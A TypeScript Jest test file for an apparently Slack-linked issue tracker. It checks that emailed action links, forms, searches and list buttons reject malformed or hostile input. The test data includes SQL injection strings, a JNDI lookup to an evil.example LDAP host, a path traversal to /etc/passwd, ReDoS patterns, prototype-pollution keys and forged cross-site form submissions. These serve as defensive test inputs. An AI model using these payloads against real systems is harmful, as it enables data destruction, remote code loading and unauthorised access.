import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { linkFor, personInSlack, sendForm, type Values, visit } from "../../support/story/page.ts";
import { anAnswer } from "../../support/story/webhook.ts";
import { House, livePieces } from "./house.ts";

let house: House;
let nathan: number;
let eric: number;
beforeAll(async () => {
  house = await House.open();
  await house.story.answer(anAnswer({ owners: [] }));
  await house.story.answer(anAnswer({ owners: [], respondent: { name: "Second One." } }));
  [nathan, eric] = [await personInSlack(house.story, "Nathan"), await personInSlack(house.story, "Eric")];
  await house.story.quiet();
});
afterAll(() => house.story.end());

const link = (issueId = 1, personId = nathan) => linkFor(house.story, personId, issueId);
const statusOf = async (id: number): Promise<string> => (await house.db("issues").where({ id }).first()).status;
const versionOf = async (id: number): Promise<number> => (await house.db("issues").where({ id }).first()).version;

describe("row 9: a link of a mail", () => {
  const looks: readonly (readonly [what: string, look: () => Promise<number[]>, status: number])[] = [
    ["opened five times by a scanner", async () => looked(Array(5).fill("?to=resolved")), 200],
    [
      "asked by HEAD",
      async () => [(await visit(house.story, await link(), "?to=resolved", { method: "HEAD" })).status],
      200,
    ],
    ["asked by OPTIONS", async () => [(await visit(house.story, await link(), "", { method: "OPTIONS" })).status], 204],
    [
      "wrapped by a mail filter, with fields more",
      async () => looked(["?to=resolved&url=https%3A%2F%2Fx&data=05%7C02&sdata=x&reserved=0"]),
      200,
    ],
    [
      "with a status that is none",
      async () => looked(["?to=__proto__", "?to=%00", "?to=", "?to=resolved&to=escalated"]),
      200,
    ],
    [
      "with a wish that is none",
      async () => looked(["?do=__proto__", "?do=take", "?do=../", `?do=${"x".repeat(5_000)}`]),
      200,
    ],
    ["with a thousand fields", async () => looked([`?${"a=b&".repeat(1_000)}`]), 200],
    ["with broken percent signs", async () => looked(["?to=%", "?%ff=%fe", "?to=%E0%A4%A"]), 200],
    ["cut short", async () => [(await visit(house.story, (await link()).slice(0, -1))).status], 404],
    ["in capitals", async () => [(await visit(house.story, (await link()).toUpperCase())).status], 404],
    ["with a full stop behind it", async () => [(await visit(house.story, `${await link()}.`)).status], 404],
    ["with a space behind it", async () => [(await visit(house.story, `${await link()}%20`)).status], 404],
    ["in angles", async () => [(await visit(house.story, `%3C${await link()}%3E`)).status], 404],
    [
      "twice in a row",
      async () => {
        const t = await link();
        return [(await visit(house.story, t + t)).status];
      },
      404,
    ],
  ];
  const looked = async (rests: string[]): Promise<number[]> => {
    const token = await link();
    return Promise.all(rests.map(async (rest) => (await visit(house.story, token, rest)).status));
  };

  test.each(looks)("%s: answered, and nothing is changed", async (_what, look, status) => {
    const before = await house.state();
    expect(new Set(await look())).toEqual(new Set([status]));
    expect(await house.state()).toEqual(before);
  });

  type Send = (values: Values, o?: { headers?: Record<string, string> }) => Promise<number>;
  const forms: readonly (readonly [what: string, send: (form: Send) => Promise<number>, status: number])[] = [
    ["a status without a note", (form) => form({ to: "in_progress" }), 422],
    ["a note of spaces that are none", (form) => form({ to: "in_progress", note: " \u200b\ufeff" }), 422],
    ["a status that is a prototype", (form) => form({ to: "__proto__", note: "" }), 422],
    ["nobody's id as assignee", (form) => form({ assign: "999999", note: "x" }), 422],
    ["a text as assignee", (form) => form({ assign: "1 or 1=1", note: "x" }), 422],
    ["nobody's id as follower", (form) => form({ follow: ["999999", "-1", "x"] }), 422],
    ["a day that is none", (form) => form({ snoozeUntil: "2026-13-45", snoozeReason: "x" }), 422],
    ["a day of the past", (form) => form({ snoozeUntil: "1999-01-01", snoozeReason: "x" }), 422],
    ["a note of 3,001 characters", (form) => form({ note: "x".repeat(3_001) }), 422],
    ["no proof", (form) => form({ note: "x", nonce: "", seal: "" }), 403],
    ["a made-up proof", (form) => form({ note: "x", seal: "A".repeat(43) }), 403],
    ["the number changed", (form) => form({ note: "x", nonce: "A".repeat(24) }), 403],
    ["sent by another site", (form) => form({ note: "x" }, { headers: { "sec-fetch-site": "cross-site" } }), 403],
    ["from another origin", (form) => form({ note: "x" }, { headers: { origin: "https://evil.example" } }), 403],
    ["a note of 100 kB", (form) => form({ note: "x".repeat(110_000) }), 413],
  ];
  test.each(forms)("a form with %s: refused, and nothing is changed", async (_what, send, status) => {
    const before = await house.state();
    const token = await link();
    const page = await visit(house.story, token);
    const form: Send = async (values, o = {}) =>
      (await sendForm(house.story, token, page, values, { stay: true, ...o })).status;
    expect(await send(form)).toBe(status);
    expect(await house.state()).toEqual(before);
  });

  test("the proof of another person's form, or of another issue's, is none", async () => {
    const [mine, others, second] = [await link(), await link(1, eric), await link(2)];
    for (const from of [others, second]) {
      const page = await visit(house.story, from);
      const answer = await sendForm(house.story, mine, page, { note: "x" }, { stay: true });
      expect(answer.status).toBe(403);
    }
  });

  test.each(["application/json", "text/plain", "multipart/form-data; boundary=x", ""])(
    "a form sent as %j is refused",
    async (type) => {
      const before = await house.state();
      const headers = { "content-type": type };
      const answer = await visit(house.story, await link(), "", { method: "POST", headers, body: '{"note":"x"}' });
      expect(answer.status).toBe(415);
      expect(await house.state()).toEqual(before);
    },
  );

  test("sent twice, in two windows, and after it was closed: once, and then what changed meanwhile is said", async () => {
    const token = await link(2);
    const [one, two] = [await visit(house.story, token), await visit(house.story, token)];
    const values = { to: "resolved", contact: "call", rootCause: "Quality", note: "settled" };
    const first = await sendForm(house.story, token, one, values, { stay: true });
    const version = await versionOf(2);
    const again = await sendForm(house.story, token, one, values, { stay: true });
    const other = await sendForm(house.story, token, two, { to: "in_progress", note: "calling" }, { stay: true });
    expect([first.status, again.status, other.status]).toEqual([303, 303, 409]);
    expect([await statusOf(2), await versionOf(2)]).toEqual(["resolved", version]);
  });

  test("after it has ended nothing is sent by it", async () => {
    const token = await link();
    const page = await visit(house.story, token);
    await house.db("page_tokens").update({ created_at: new Date("2020-01-01"), expires_at: new Date("2020-01-02") });
    expect((await sendForm(house.story, token, page, { note: "late" }, { stay: true })).status).toBe(404);
  });
});

describe("row 11: what is searched for, and what a list's buttons carry", () => {
  const SEARCHES = [
    "'; drop table issues; --",
    "%' or '1'='1",
    "%_\\",
    "\\",
    "\\u0000",
    "nul\u0000",
    ")(*&^|!<->:",
    "a & | ! b",
    "'''''",
    `${"$"}{jndi:ldap://evil.example/x}`,
    "../../etc/passwd",
    "assignee:",
    "status:__proto__",
    "tag:' tag:\" tag:",
    "overdue: overdue:no",
    "(a+)+$".repeat(20),
    `${"a".repeat(300)}!`,
    "a ".repeat(1_000),
    "\u{1f621}".repeat(500),
    "\ud800",
    "<!channel> <@U0KIM>",
    "* OR 1=1 ORDER BY 1; select pg_sleep(10)",
    "-1",
    "99999999999999999999999999",
    "\u202e#1",
  ];
  test.each(SEARCHES)("%j: answered, pings nobody", async (words) => {
    for (const text of [`search ${words}`, words, `open ${words}`, `why ${words}`]) {
      const answer = await house.command({ text });
      const said = JSON.parse(answer.text) as { text: string; blocks?: unknown };
      expect([answer.status, livePieces([{ type: "mrkdwn", text: said.text }, said.blocks])]).toEqual([200, []]);
      expect(said.text).not.toMatch(/could not do this just now/);
    }
  });

  const filters = { tag: null, survey: null, director: null, status: null, assigneeId: null };
  const state = { list: "open", words: "", filters, cursor: null, at: 1 };
  const CURSORS: readonly (readonly [what: string, value: unknown])[] = [
    ["no JSON", "{"],
    ["nothing", ""],
    ["a list that is none", { ...state, list: "everything" }],
    ["a list that is a prototype", { ...state, list: "__proto__" }],
    ["a negative place", { ...state, at: -1 }],
    ["a huge place", { ...state, at: 1e300 }],
    ["half a place", { ...state, at: 1.5 }],
    ["SQL as cursor", { ...state, cursor: { keys: ["1; drop table issues"], towards: "next" } }],
    ["a cursor of another length", { ...state, cursor: { keys: [], towards: "next" } }],
    ["a cursor of four words", { ...state, cursor: { keys: ["a", "b", "c", "d"], towards: "next" } }],
    ["a cursor without end", { ...state, cursor: { keys: Array(1_000).fill("1"), towards: "next" } }],
    ["a way that is none", { ...state, cursor: { keys: ["1"], towards: "; drop" } }],
    [
      "a number beyond numbers as cursor",
      { ...state, cursor: { keys: ["99999999999999999999", "1"], towards: "next" } },
    ],
    ["a time that is none as cursor", { ...state, cursor: { keys: ["yesterday", "1"], towards: "previous" } }],
    ["an assignee who is no number", { ...state, filters: { ...filters, assigneeId: "1 or 1=1" } }],
    ["an assignee beyond numbers", { ...state, filters: { ...filters, assigneeId: 1e15 } }],
    ["a status that is none", { ...state, filters: { ...filters, status: "won" } }],
    ["a tag of 10 kB", { ...state, filters: { ...filters, tag: "x".repeat(10_000) } }],
    ["words of 10 kB", { ...state, words: "x".repeat(10_000) }],
    ["an order of one's own", { ...state, order: "1; drop table issues", limit: 1e9 }],
  ];
  test.each(CURSORS)("a button that carries %s: answered, and no fault of ours", async (_what, value) => {
    const before = await house.state();
    const text = typeof value === "string" ? value : JSON.stringify(value);
    const answer = await house.click({ type: "button", action_id: "amends.list.x", value: text });
    expect(answer.status).toBe(200);
    expect(await house.state()).toEqual(before);
  });

  test("after all that, neighbours are well", () => house.unharmed());
});
